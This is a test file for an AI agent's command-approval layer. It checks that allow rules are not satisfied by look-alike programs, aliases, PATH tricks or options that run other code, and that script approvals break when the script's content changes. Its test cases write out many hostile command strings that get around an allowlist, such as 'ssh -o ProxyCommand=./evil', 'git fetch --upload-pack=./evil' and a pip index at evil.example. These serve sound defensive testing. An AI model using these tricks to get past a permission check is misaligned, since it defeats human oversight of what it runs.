"""Rules are for one program: not for another of the same name, other options that run programs, or other content."""

from pathlib import Path

import pytest

from tests.tooling.tool_harness import TASK, USER, FakeUser
from tooling.approvals.policy import PolicyApprover
from tooling.contract.action import Action, ApprovalAnswer, Verdict
from tooling.contract.context import ExecCtx
from tooling.contract.result import ToolResult
from tooling.permission import SCRIPT_CHANGED, SCRIPT_KEEPS_CHANGING, PermissionInterceptor
from tooling.safety.action_judge import ActionJudge
from tooling.safety.judges import always_ask

JUDGE = ActionJudge()


def context(folder: Path) -> ExecCtx:
    return ExecCtx(user_id=USER, task_id=TASK, working_dir=folder)


def command(text: str, folder: Path) -> Action:
    return Action(tool="run_command", effect="execute", subject=text, cwd=folder)


def verdict_on(text: str, folder: Path) -> Verdict:
    """Return the verdict of a run that asks about every command, as on the host."""
    action = command(text, folder)
    return always_ask("it runs on the host", "host-backend")(JUDGE.judge(action, context(folder)), action)


async def answer(approver: PolicyApprover, text: str, folder: Path) -> str:
    action = command(text, folder)
    return (await approver.approve(action, verdict_on(text, folder), context(folder))).decision


@pytest.mark.parametrize(
    "text",
    [
        *("./git status", "$PWD/git status", "sub/git status", "cd sub && ./git status", '"$X"/git status'),
        *("PATH=.:$PATH git status", 'export PATH="$PWD:$PATH"; git status', "source ./env.sh; git status"),
        *("git() { ./evil; }; git status", "alias git=./evil; git status", "hash -p ./evil git; git status"),
        *("GIT_PAGER=./evil git status", "git -c core.fsmonitor=./evil status", "env PATH=/tmp git status"),
    ],
)
async def test_a_rule_for_a_program_is_not_for_another_of_the_same_name(text: str, tmp_path: Path) -> None:
    approver = PolicyApprover(allow=("git status",))
    assert await answer(approver, text, tmp_path) == "deny"
    for same in ("git status", "/usr/bin/git status -sb"):
        assert await answer(approver, same, tmp_path) == "allow"


@pytest.mark.parametrize(
    ("rule", "text"),
    [
        ("git push", "git push --exec=./evil origin main"),
        ("git push", "git push --receive-pack ./evil origin main"),
        ("git push", "git push --rec[e]ive-pack=./evil"),
        ("git fetch", "git fetch --upload-pack=./evil origin"),
        ("git fetch", "git fetch --upload-p ./evil origin"),
        ("git grep", "git grep -O./evil pattern"),
        ("git grep", "git grep --open-files-in-pager=./evil pattern"),
        ("git rebase", "git rebase -x ./evil main"),
        ("git log", "git log --output=/tmp/x"),
        ("git", "git -c core.pager=./evil log"),
        ("git config", "git config core.pager ./evil"),
        ("git config", "git config --global alias.st '!./evil'"),
        ("git config set", "git config set filter.x.clean ./evil"),
        ("git filter-branch", "git filter-branch --tree-filter ./evil"),
        ("git filter-branch", "git filter-branch --msg-filt ./evil"),
        ("git send-email", "git send-email --smtp-server=./evil x.patch"),
        ("git send-email", "git send-email --to-cmd ./evil x.patch"),
        ("tar", "tar xf a.tar -I ./evil"),
        ("tar", "tar cf a.tar a --checkpoint-action=exec=./evil"),
        ("ssh", "ssh -o ProxyCommand=./evil host"),
        ("ssh", "ssh -oProxyCommand=./evil host"),
        ("rsync", "rsync -e ./evil a host:"),
        ("find", "find . -exec ./evil ;"),
        ("find", "find . -fprintf a b"),
        ("sort", "sort -o /tmp/x a"),
        ("sort", "sort --compress-program=./evil a"),
        ("make", "make SHELL=./evil"),
        ("npm run", "npm run build --script-shell=./evil"),
        ("cargo", "cargo --config build.rustc-wrapper=./evil build"),
        ("go test", "go test -exec ./evil ./..."),
        ("env", "env -S './evil'"),
        ("pip install", "pip install --index-url http://evil.example x"),
    ],
)
async def test_options_that_run_or_write_something_else_need_a_rule_of_their_own(
    rule: str, text: str, tmp_path: Path
) -> None:
    assert await answer(PolicyApprover(allow=(rule,)), text, tmp_path) == "deny"
    assert await answer(PolicyApprover(allow=(text,)), text, tmp_path) == "allow"


async def test_a_deny_rule_is_for_a_program_in_any_folder(tmp_path: Path) -> None:
    approver = PolicyApprover(mode="yolo", deny=("git push",))
    for text in ("git push", "./git push", "/opt/git/bin/git push --exec=x"):
        assert await answer(approver, text, tmp_path) == "deny"


async def test_a_script_is_offered_as_a_rule_for_its_path_and_content(tmp_path: Path) -> None:
    (tmp_path / "sub").mkdir()
    for folder in (tmp_path, tmp_path / "sub"):
        (folder / "build.sh").write_text("echo build\n")
    saved: list[str] = []
    user = FakeUser(decision=ApprovalAnswer(decision="allow", by="person", scope="always"))
    approver = PolicyApprover(user=user, save_rules=lambda _, rules: saved.extend(rules))
    assert await answer(approver, "./build.sh --fast", tmp_path) == "allow"
    (rule,) = saved
    assert rule.startswith("sha256:")
    assert rule.endswith(" ./build.sh --fast")
    later = PolicyApprover(allow=(rule,))
    assert await answer(later, "./build.sh --fast", tmp_path) == "allow"
    assert await answer(later, "cd sub && ./build.sh --fast", tmp_path) == "deny"
    (tmp_path / "build.sh").write_text("rm -rf src\n")
    assert await answer(later, "./build.sh --fast", tmp_path) == "deny"


@pytest.mark.parametrize(
    ("text", "file"),
    [
        *(("./build.sh", "build.sh"), ("bash build.sh", "build.sh"), ("python3 x.py", "x.py"), ("./x.py", "x.py")),
        *(("make deploy", "Makefile"), ("npm run deploy", "package.json"), ("source env.sh", "env.sh")),
        *(("timeout 9 sh -c 'make all'", "Makefile"), ("make -f other.mk", "other.mk"), ("sh < run.sh", "run.sh")),
    ],
)
async def test_a_rule_without_a_digest_is_bound_at_its_first_use(text: str, file: str, tmp_path: Path) -> None:
    (tmp_path / file).write_text("echo a\n")
    approver = PolicyApprover(allow=verdict_on(text, tmp_path).commands_to_approve)
    assert await answer(approver, text, tmp_path) == "allow"
    assert await answer(approver, text, tmp_path) == "allow"
    (tmp_path / file).write_text("echo b\n")
    assert await answer(approver, text, tmp_path) == "deny"


async def test_an_answer_for_the_run_ends_when_the_script_changes(tmp_path: Path) -> None:
    script = tmp_path / "deploy.sh"
    script.write_text("echo a\n")
    user = FakeUser(decision=ApprovalAnswer(decision="allow", by="person", scope="run"))
    approver = PolicyApprover(user=user)
    for content in ("echo a\n", "echo a\n", "echo b\n"):
        script.write_text(content)
        await answer(approver, "bash deploy.sh", tmp_path)
    assert len(user.asked) == 2


class ChangingUser:
    """Approves everything, and changes a file while the question is open."""

    def __init__(self, script: Path, *, changes: int) -> None:
        self._script = script
        self._changes = changes
        self.reasons: list[str] = []

    async def approve(self, action: Action, verdict: Verdict, ctx: ExecCtx) -> ApprovalAnswer:
        self.reasons.append(verdict.reason)
        if len(self.reasons) <= self._changes:
            self._script.write_text(f"{self._script.read_text()}echo more\n")
        return ApprovalAnswer(decision="allow", by="person")


async def authorize(user: ChangingUser, folder: Path) -> ToolResult | ApprovalAnswer | None:
    permission = PermissionInterceptor(JUDGE, user, adjustments=(always_ask("on the host", "host-backend"),))
    action = command("./build.sh", folder)
    return await permission.authorize(action, permission.verdict(action, context(folder)), context(folder))


async def test_a_script_that_changes_while_the_question_is_open_is_asked_about_again(tmp_path: Path) -> None:
    script = tmp_path / "build.sh"
    script.write_text("echo 0\n")
    user = ChangingUser(script, changes=1)
    assert isinstance(await authorize(user, tmp_path), ApprovalAnswer)
    assert [SCRIPT_CHANGED in reason for reason in user.reasons] == [False, True]
    found = await authorize(ChangingUser(script, changes=9), tmp_path)
    assert isinstance(found, ToolResult)
    assert found.content == SCRIPT_KEEPS_CHANGING
